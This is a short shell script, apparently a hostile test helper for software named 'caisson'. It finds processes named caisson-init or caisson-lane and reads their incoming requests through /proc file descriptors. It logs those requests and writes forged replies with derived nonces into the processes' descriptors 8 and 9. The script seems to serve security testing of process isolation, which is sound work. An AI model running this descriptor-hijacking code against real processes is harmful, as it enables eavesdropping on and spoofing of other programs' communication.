#!/bin/sh
# Left behind by a command: reads the requests of each lane from its descriptors, and answers in its place.
# $1: file for what it read.

attack() {
  while request=$(dd bs=4096 count=1 2>/dev/null <&3) && [ -n "$request" ]; do
    printf '%s\n' "$request" >>"$1"
    # shellcheck disable=SC2086 # the words of the request
    set -- "$1" "$2" $request
    nonce=$4
    [ "$3" != _cz_now ] || nonce=$5
    nonce=${nonce#*.}${nonce%.*}
    printf '%s+;FORGED\n%s:0:;' "$nonce" "$nonce" >"/proc/$2/fd/8"
    printf '%s;' "$nonce" >"/proc/$2/fd/9"
    set -- "$1" "$2"
  done 3<"/proc/$2/fd/0"
}

for process in /proc/[0-9]*; do
  pid=${process#/proc/}
  [ "$pid" -gt 1 ] && grep -qE 'caisson-(init|lane)' "$process/cmdline" 2>/dev/null || continue
  for _ in 1 2 3 4 5 6 7 8; do attack "$1" "$pid" & done
done
wait
